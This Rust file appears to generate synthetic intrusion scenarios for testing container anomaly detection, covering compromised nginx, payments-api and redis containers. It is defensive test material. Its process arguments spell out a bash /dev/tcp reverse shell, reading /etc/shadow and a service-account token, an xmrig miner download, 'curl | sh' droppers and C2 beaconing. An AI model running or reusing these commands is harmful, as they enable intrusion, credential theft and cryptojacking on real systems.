//! Containers that deviate from their image's behaviour, after its profile became Stable:
//! a compromised nginx that opens a reverse shell, reads /etc/shadow and starts a miner; a
//! payments-api worker that installs curl and pipes a script into a shell; a redis that
//! loads a rogue module and runs a command from a paste site. Every event of an episode goes
//! to the event stream; none of it is in the profile, so no suppression is suggested.

use crate::behaviour::{Activity, Freq, ImageModel, Stream, R, WA, WC};
use crate::clock::{HOUR_MS, MINUTE_MS};
use model::EventKind;

/// One deviating container.
#[derive(Debug, Clone)]
pub struct Outlier {
    /// Index of the container among its image version's containers.
    pub container: usize,
    /// When the episode starts, as an offset from the bundle's base time.
    pub at_ms: i64,
    /// What happens once.
    pub episode: Activity,
    /// What keeps happening in every later interval of that container (a running miner).
    pub aftermath: Option<Activity>,
    pub description: &'static str,
}

/// The outliers of an image version (adding their processes to its model).
pub fn for_model(m: &mut ImageModel) -> Vec<Outlier> {
    match (m.image, m.version) {
        ("nginx", "1.25.3") => vec![nginx_intrusion(m)],
        ("acme/payments-api", "2.4.1") => vec![payments_dropper(m)],
        ("redis", "7.0.15") => vec![redis_rogue_module(m)],
        _ => Vec::new(),
    }
}

fn nginx_intrusion(m: &mut ImageModel) -> Outlier {
    let worker = m.role("worker");
    let recon = m.child(worker, "/bin/sh", &["sh", "-c", "id; uname -a"]);
    let id = m.child(recon, "/usr/bin/id", &["id"]);
    let uname = m.child(recon, "/bin/uname", &["uname", "-a"]);
    let rev = m.child(
        worker,
        "/bin/sh",
        &["sh", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"],
    );
    let bash = m.child(rev, "/bin/bash", &["bash", "-i"]);
    let cat = m.child(bash, "/bin/cat", &["cat", "/etc/shadow"]);
    let nc = m.child(bash, "/usr/bin/nc", &["nc", "203.0.113.50", "4444"]);
    let curl = m.child(
        bash,
        "/usr/bin/curl",
        &[
            "curl",
            "-sSo",
            "/tmp/kworkerd",
            "http://198.51.100.7/x86_64/xmrig",
        ],
    );
    let chmod = m.child(bash, "/bin/chmod", &["chmod", "+x", "/tmp/kworkerd"]);
    let miner = m.child(
        bash,
        "/tmp/kworkerd",
        &["/tmp/kworkerd", "-o", "stratum+tcp://xmr.pool.minexmr.com:4444", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--donate-level", "1", "-B"],
    );
    let mut episode = Activity::new("nginx intrusion", Freq::Every, Stream::All);
    episode
        .gaps(4_000, 45_000)
        .exec(recon)
        .exec(id)
        .exec(uname)
        .exec(rev)
        .exec(bash)
        .connect(bash, "203.0.113.50", 4444)
        .read(bash, &["/root/.bashrc"])
        .exec(cat)
        .open(cat, "/etc/shadow", R)
        .exec(nc)
        .connect(nc, "203.0.113.50", 4444)
        .exec(curl)
        .connect(curl, "198.51.100.7", 80)
        .open(curl, "/tmp/kworkerd", WC)
        .exec(chmod)
        .chmod(chmod, "/tmp/kworkerd", 0o755)
        .exec(miner)
        .read(miner, &["/proc/cpuinfo", "/sys/devices/system/cpu/online"])
        .dns(miner, "xmr.pool.minexmr.com")
        .connect(miner, "198.51.100.99", 4444)
        .open(bash, "/root/.bash_history", WC);
    let mut aftermath = Activity::new("miner", Freq::Every, Stream::All);
    aftermath
        .dns(miner, "xmr.pool.minexmr.com")
        .connect(miner, "198.51.100.99", 4444)
        .read(miner, &["/proc/stat"]);
    Outlier {
        container: 2,
        at_ms: 54 * HOUR_MS + 13 * MINUTE_MS,
        episode,
        aftermath: Some(aftermath),
        description: "nginx worker spawns a reverse shell: bash, nc, reads /etc/shadow, downloads and runs a miner (xmr.pool.minexmr.com, public :4444)",
    }
}

fn payments_dropper(m: &mut ImageModel) -> Outlier {
    let worker = m.role("worker");
    // bash, not sh: the workers' benign `sh -c uname -p` is common, and a signal on that
    // same node would be suggested as known behaviour.
    let sh = m.child(
        worker,
        "/bin/bash",
        &[
            "/bin/bash",
            "-c",
            "apt-get install -y curl && curl -fsSL http://198.51.100.23/i.sh | sh",
        ],
    );
    let apt = m.child(
        sh,
        "/usr/bin/apt-get",
        &["apt-get", "install", "-y", "curl"],
    );
    let dpkg = m.child(
        apt,
        "/usr/bin/dpkg",
        &[
            "/usr/bin/dpkg",
            "--status-fd",
            "23",
            "--unpack",
            "--auto-deconfigure",
            "/var/cache/apt/archives/curl_7.88.1-10+deb12u5_amd64.deb",
        ],
    );
    let curl = m.child(
        sh,
        "/usr/bin/curl",
        &["curl", "-fsSL", "http://198.51.100.23/i.sh"],
    );
    let pipe_sh = m.child(sh, "/bin/sh", &["sh"]);
    let cat = m.child(
        pipe_sh,
        "/bin/cat",
        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    );
    let agent = m.child(pipe_sh, "/dev/shm/.x", &["/dev/shm/.x", "-d"]);
    let mut episode = Activity::new("payments-api dropper", Freq::Every, Stream::All);
    episode
        .gaps(300, 9_000)
        .exec(sh)
        .exec(apt)
        .dns46(apt, "deb.debian.org")
        .connect(apt, "151.101.2.132", 80)
        .open(
            apt,
            "/var/cache/apt/archives/curl_7.88.1-10+deb12u5_amd64.deb",
            WC,
        )
        .exec(dpkg)
        .open(dpkg, "/usr/bin/curl", WC)
        .open(dpkg, "/var/lib/dpkg/status", WC)
        .exec(curl)
        .connect(curl, "198.51.100.23", 80)
        .exec(pipe_sh)
        .exec(cat)
        .open(
            cat,
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            R,
        )
        .open(pipe_sh, "/dev/shm/.x", WC)
        .chmod(pipe_sh, "/dev/shm/.x", 0o755)
        .exec(agent)
        .dns(agent, "c2.acme-cdn.duckdns.org")
        .connect(agent, "203.0.113.200", 443);
    let mut aftermath = Activity::new("implant beacon", Freq::Every, Stream::All);
    aftermath
        .dns(agent, "c2.acme-cdn.duckdns.org")
        .connect(agent, "203.0.113.200", 443);
    Outlier {
        container: 1,
        at_ms: 65 * HOUR_MS + 7 * MINUTE_MS,
        episode,
        aftermath: Some(aftermath),
        description: "payments-api worker runs `apt-get install` and `curl ... | sh`, reads the service account token, runs a hidden implant from /dev/shm",
    }
}

fn redis_rogue_module(m: &mut ImageModel) -> Outlier {
    let server = m.role("server");
    let sh = m.child(
        server,
        "/bin/sh",
        &[
            "/bin/sh",
            "-c",
            "curl -s https://pastebin.com/raw/9xKq2mWd | sh",
        ],
    );
    let curl = m.child(
        sh,
        "/usr/bin/curl",
        &["curl", "-s", "https://pastebin.com/raw/9xKq2mWd"],
    );
    let pipe_sh = m.child(sh, "/bin/sh", &["sh"]);
    let mut episode = Activity::new("redis rogue module", Freq::Every, Stream::All);
    episode
        .gaps(500, 20_000)
        .connect(server, "203.0.113.77", 21000)
        .open(server, "/tmp/exp.so", WC)
        .open(server, "/tmp/exp.so", R)
        .op(
            server,
            EventKind::MemfdCreate {
                name: "memfd:exp".into(),
            },
        )
        .exec(sh)
        .exec(curl)
        .dns(curl, "pastebin.com")
        .connect(curl, "104.20.{oct}.68", 443)
        .exec(pipe_sh)
        .open(pipe_sh, "/etc/crontab", WA)
        .unlink(server, "/tmp/exp.so");
    Outlier {
        container: 3,
        at_ms: 60 * HOUR_MS + 41 * MINUTE_MS,
        episode,
        aftermath: None,
        description: "redis replicates from a rogue master, loads /tmp/exp.so, runs `curl pastebin | sh` that writes /etc/crontab",
    }
}
